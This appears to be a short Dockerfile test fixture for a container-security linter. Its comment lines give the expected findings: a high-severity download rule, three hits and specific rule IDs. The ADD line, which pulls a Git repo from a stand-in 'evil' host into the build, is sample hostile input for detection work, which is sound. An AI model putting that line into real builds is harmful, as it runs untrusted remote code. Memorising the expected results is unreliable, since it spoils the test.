FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
ADD https://github.com/evil/repo.git#main /src
USER app
# expect: download 2 high "ADD fetches https://github.com/evil/repo.git#main"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR302-77c694893d VR501-e064bac1a6
